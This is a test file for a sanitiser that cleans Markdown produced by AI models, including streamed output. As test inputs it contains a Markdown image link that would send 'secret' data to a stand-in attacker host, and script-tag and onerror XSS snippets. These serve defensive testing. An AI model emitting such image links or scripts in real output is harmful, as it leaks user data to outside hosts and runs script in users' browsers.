import { describe, expect, it } from 'vitest';
import { safeCut, safeMarkdown, safeStream, safeStrings } from './safe-markdown';

async function collect(pieces: string[]) {
  async function* gen() {
    yield* pieces;
  }
  const out: string[] = [];
  for await (const p of safeStream(gen())) out.push(p);
  return out;
}

describe('safe Markdown from models', () => {
  it('turns images into their alt text and drops raw HTML, keeping ordinary Markdown', () => {
    expect(safeMarkdown('See ![the map](https://evil.example/?d=secret) **now**')).toBe('See the map **now**');
    expect(safeMarkdown('<script>alert(1)</script>Hi <img src=x onerror=y> <!-- c -->there')).toBe('alert(1)Hi  there');
    expect(safeMarkdown('Marks: x < 5 and [a link](https://mpsc.gov.in)')).toBe('Marks: x < 5 and [a link](https://mpsc.gov.in)');
    expect(safeStrings({ a: ['![x](http://e/)'], b: 3 })).toEqual({ a: ['x'], b: 3 });
  });

  it('streams safely: an image split across pieces never goes out whole', async () => {
    const out = await collect(['Answer ', '![x](https://ev', 'il/?d=1) done', ' <scr', 'ipt>bad']);
    expect(out.join('')).toBe('Answer x done bad');
    expect(out[0]).toBe('Answer ');
    expect(safeCut('plain text')).toBe(10);
    expect(safeCut('a < b')).toBe(5);
  });
});
